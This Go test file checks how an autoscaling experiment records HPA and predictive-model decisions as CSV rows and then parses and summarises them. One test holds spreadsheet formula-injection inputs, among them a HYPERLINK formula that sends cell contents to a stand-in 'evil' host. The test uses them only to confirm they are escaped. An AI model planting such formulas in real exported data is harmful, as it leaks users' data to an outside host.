package experiment

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/flyball-io/flyball/record"
	"github.com/flyball-io/flyball/scale"
)

var noon = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

// decided is four replicas, three of them ready, at 90 % of the requested CPU;
// hpa wants 6, predictive 5.
func decided() record.Decided {
	fresh := func(name string, v float64) record.Measured {
		return record.Measured{Name: name, Trust: scale.Fresh, Value: v, At: noon}
	}
	return record.Decided{
		Decision: scale.Decision{Policy: "hpa", At: noon, CurrentReplicas: 4, DesiredReplicas: 6, Reason: scale.Because("Above", "cpu above target")},
		Shadows: []scale.Decision{{Policy: "predictive", CurrentReplicas: 4, DesiredReplicas: 5,
			Recommendation: scale.Recommendation{Replicas: 7, Confidence: 0.8, Reason: scale.Because("Load", "load, 6.4 times a replica")}, Reason: scale.Because("Max", "7 is above the maximum of 5")}},
		Seen: record.Seen{Ready: 3, Signals: []record.Measured{fresh("cpuCores", 0.27), fresh(scale.CPUUtilization, 0.9), fresh("memoryBytes", 3<<20), {Name: scale.MemoryUtilization, Trust: scale.Stale, Value: 0.5}}},
	}
}

func seen(mode Mode) Seen {
	return Seen{Mode: mode, Decided: decided(), HPA: "hpa", AI: "predictive", Targets: Targets{CPU: 60, Memory: 80}, Applied: true}
}

func TestARowHoldsWhatBothWant(t *testing.T) {
	s := seen(HPAOnly)
	s.Live = &HPAStatus{Current: 4, Desired: 6}
	got := strings.Join(s.Row().Fields(), "|")
	want := "2026-03-01T12:00:00Z|hpa_only|4|90.0|1.0|6|1.500||4|6|5|0.800|load, 6.4 times a replica; 7 is above the maximum of 5|6|hpa"
	if got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
}

func TestReplicasThatAreMeasuredOneByOneCount(t *testing.T) {
	s := seen(Comparison)
	for replica, cores := range map[string]float64{"a": 0.1, "b": 0.3, "": 7} {
		s.Samples = append(s.Samples, scale.Sample{Signal: "cpu", Replica: replica, Value: cores}, scale.Sample{Signal: "cpu", Replica: replica, Container: "main", Value: 9})
	}
	if r := s.Row(); *r.CPUMillicores != 200 || *r.MemoryMebibytes != 1 {
		t.Errorf("got %v millicores, %v MiB; want 200 of two replicas, and 3 MiB by three", *r.CPUMillicores, *r.MemoryMebibytes)
	}
}

func TestWhoAppliedWhat(t *testing.T) {
	live := &HPAStatus{Current: 4, Desired: 7}
	for _, tc := range []struct {
		rule    string
		mode    Mode
		live    *HPAStatus
		applied bool
		n       int
		by      string
	}{
		{"the live HPA applies by itself", HPAOnly, live, false, 7, ByHPA},
		{"where there is none Flyball's does", HPAOnly, nil, true, 6, ByHPA},
		{"nobody does in a comparison", Comparison, live, true, 4, ByNone},
		{"nobody does while it is paused", AIScaler, nil, false, 4, ByNone},
		{"the live HPA does until the policy is obeyed", AIScaler, live, false, 7, ByHPA},
		{"the live HPA rests once it is", AIScaler, live, true, 6, ByAI},
		{"the obeyed policy does", AIScaler, nil, true, 6, ByAI},
	} {
		s := seen(tc.mode)
		s.Live, s.Applied = tc.live, tc.applied
		if r := s.Row(); *r.AppliedReplicas != tc.n || r.AppliedBy != tc.by {
			t.Errorf("%s: got %d by %s, want %d by %s", tc.rule, *r.AppliedReplicas, r.AppliedBy, tc.n, tc.by)
		}
	}
}

func TestWhatIsNotKnownIsLeftEmpty(t *testing.T) {
	s := seen(Comparison)
	s.Decided.Seen = record.Seen{}
	s.Decided.Decision.NoData, s.Decided.Shadows = true, nil
	if got, want := strings.Join(s.Row().Fields(), "|"), "2026-03-01T12:00:00Z|comparison|4|||||||||||4|none"; got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
}

func TestAFileIsReadAsItWasWritten(t *testing.T) {
	f, err := Create(filepath.Join(t.TempDir(), "data"), AIScaler, noon)
	if err != nil {
		t.Fatal(err)
	}
	s := seen(AIScaler)
	rows := []Row{s.Row(), seen(Comparison).Row()}
	rows[1].AIReasoning = "two lines,\nand a \"quote\""
	for _, r := range rows {
		if err := f.Append(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	if name := filepath.Base(f.Path); name != "experiment_ai_scaler_20260301_120000.csv" {
		t.Errorf("got %s", name)
	}
	in, err := os.Open(f.Path)
	if err != nil {
		t.Fatal(err)
	}
	defer in.Close()
	got, err := Read(in)
	if diff := cmp.Diff(rows, got); err != nil || diff != "" {
		t.Errorf("%v (-wrote +read):\n%s", err, diff)
	}
	if _, err := Create(filepath.Dir(f.Path), AIScaler, noon); err == nil {
		t.Error("a file that is there was written over")
	}
}

// What a table takes for a formula is a text to it, and the same when it is read
// again.
func TestNoReasonIsAFormula(t *testing.T) {
	for _, reason := range []string{`=HYPERLINK("http://evil/?"&A1,"4")`, "+1", "-1", "@SUM(A1)", "\t=1", "'=1", "'", "''", "it's 4", "", "é=1"} {
		s := seen(Comparison)
		r := s.Row()
		r.AIReasoning = reason
		fields := r.Fields()
		if written := fields[12]; written != "" && strings.ContainsRune("=+-@\t", rune(written[0])) {
			t.Errorf("%q is written as %q", reason, written)
		}
		if got, err := ParseRow(fields); err != nil || got.AIReasoning != reason {
			t.Errorf("%q: read as %q, %v", reason, got.AIReasoning, err)
		}
	}
	old := seen(Comparison)
	fields := old.Row().Fields()
	fields[12] = "'quoted' once"
	if got, err := ParseRow(fields); err != nil || got.AIReasoning != fields[12] {
		t.Errorf("of an older file: read as %q, %v", got.AIReasoning, err)
	}
}

func TestWhatIsNoRowIsNamed(t *testing.T) {
	header := strings.Join(Columns(), ",") + "\n"
	good := strings.ReplaceAll(strings.Join(seen(Comparison).Row().Fields(), ","), "load, 6", "load 6")
	for name, tc := range map[string]struct{ text, want string }{
		"nothing":       {"", "is empty"},
		"another file":  {"a,b\n", "line 1: is not the header"},
		"a time":        {header + strings.Replace(good, "2026-03-01T12:00:00Z", "noon", 1), "line 2: timestamp: must be a time"},
		"a mode":        {header + strings.Replace(good, "comparison", "both", 1), "line 2: mode: must be one of"},
		"a count":       {header + strings.Replace(good, ",4,", ",-4,", 1), "line 2: current_replicas: must be a count"},
		"no count":      {header + strings.Replace(good, ",4,", ",,", 1), "line 2: current_replicas: must be a count"},
		"not a number":  {header + strings.Replace(good, ",90.0,", ",NaN,", 1), "line 2: cpu_millicores: must be a number"},
		"a cut off one": {header + "2026-03-01T12:00:00Z,comp", "line 2"},
	} {
		if _, err := Read(strings.NewReader(tc.text)); err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: got %v, want %q", name, err, tc.want)
		}
	}
}

// Two replicas for 30 s, four for 60 s, two for 60 s: 420 replica-seconds.
func TestASummaryCountsTime(t *testing.T) {
	row := func(after time.Duration, n int, ratio float64, sim, live int) Row {
		return Row{Timestamp: noon.Add(after), Mode: HPAOnly, CurrentReplicas: n, HPASimCPURatio: &ratio, HPASimDesired: &sim, HPADesiredReplicas: &live}
	}
	got := Summarize([]Row{row(0, 2, 2, 4, 4), row(30*time.Second, 4, 1, 4, 4), row(90*time.Second, 2, 1.1, 4, 2)})
	want := Summary{Mode: HPAOnly, Rows: 3, Duration: 150 * time.Second, ReplicaHours: 420.0 / 3600, MeanReplicas: 2.8, MinReplicas: 2, MaxReplicas: 4,
		Changes: 2, Reversals: 1, OverTarget: pointer(0.2), MeanHPASim: pointer(4.0), MeanHPALive: pointer((4*90 + 2*60) / 150.0), SimEqual: pointer(0.6), SimWithinOne: pointer(0.6)}
	if diff := cmp.Diff(want, got, cmp.Comparer(func(a, b float64) bool { return a-b < 1e-9 && b-a < 1e-9 })); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if one := Summarize([]Row{row(0, 3, 1, 3, 3)}); one.MeanReplicas != 3 || *one.MeanHPASim != 3 {
		t.Errorf("one row: %+v", one)
	}
	if none := Summarize(nil); none.Rows != 0 {
		t.Errorf("no row: %+v", none)
	}
}

// A language model's columns are its own words, as long as they are valid.
func TestARowHoldsWhatAModelSaid(t *testing.T) {
	four, at := 4, noon
	answer := record.Advised{Replicas: &four, Confidence: 0.7, Reason: "it grows", Expires: at.Add(time.Second)}
	for name, tc := range map[string]struct {
		said *record.Advised
		want string
	}{
		"not asked": {nil, "||not asked yet"},
		"answered":  {&answer, "4|0.700|it grows"},
		"expired":   {&record.Advised{Replicas: &four, Expires: at}, "||no advice: the last has expired"},
		"failed":    {&record.Advised{Error: "status 500"}, "||no advice: status 500"},
	} {
		s := seen(HPAOnly)
		s.Asked, s.Advised = true, tc.said
		if got := strings.Join(s.Row().Fields()[10:13], "|"); got != tc.want {
			t.Errorf("%s: got %s, want %s", name, got, tc.want)
		}
	}
}
